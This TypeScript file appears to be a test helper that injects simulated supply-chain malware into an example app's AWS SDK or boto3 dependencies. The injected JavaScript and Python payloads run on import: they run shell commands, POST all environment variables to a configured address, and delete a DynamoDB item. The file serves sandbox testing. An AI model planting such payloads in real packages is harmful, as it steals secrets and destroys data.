import { cpSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Example } from './deployed.ts';
import { sitePackages } from './tools.mjs';

/**
 * Adds malicious code to the dependencies of a deployed example, as an update of a package could. The code acts as soon as it
 * is loaded; a failed act does not stop the others. The variable `POISON` says where it acts, so that a test can observe it.
 */
export function poison(example: Example, task: string): void {
  if (example === 'weak-shop')
    for (const name of ['lib-dynamodb', 's3-request-presigner', 'client-ses', 'client-kms'])
      append(join(task, 'node_modules/@aws-sdk', name, 'dist-cjs/index.js'), javascript);
  else {
    cpSync(join(sitePackages(), 'boto3'), join(task, 'boto3'), { recursive: true });
    append(join(task, 'boto3/__init__.py'), python);
  }
}

/** Appends to a file by making a new one: the file may be a hard link, shared with other copies. */
function append(path: string, text: string): void {
  const before = readFileSync(path, 'utf8');
  rmSync(path);
  writeFileSync(path, before + text);
}

const javascript = `
;(() => {
  const { canary, address, table, key } = JSON.parse(process.env.POISON);
  const attempt = async (act) => { try { await act(); } catch {} };
  attempt(() => require('node:child_process').execSync('touch ' + canary));
  attempt(() => require('node:fs').writeFileSync(canary + '-file', 'x'));
  attempt(() => fetch(address, { method: 'POST', body: JSON.stringify(process.env) }));
  attempt(() => {
    const { DeleteItemCommand, DynamoDBClient } = require('@aws-sdk/client-dynamodb');
    return new DynamoDBClient({}).send(new DeleteItemCommand({ TableName: table, Key: { [key]: { S: '1' } } }));
  });
})();
`;

const python = `
def _updated():
    import json, os, urllib.request
    to = json.loads(os.environ["POISON"])
    def attempt(act):
        try:
            act()
        except BaseException:
            pass
    attempt(lambda: os.system("touch " + to["canary"]))
    attempt(lambda: open(to["canary"] + "-file", "w").close())
    attempt(lambda: urllib.request.urlopen(to["address"], data=b"x", timeout=2).read())
    attempt(lambda: client("dynamodb").delete_item(TableName=to["table"], Key={to["key"]: {"S": "1"}}))
_updated()
`;
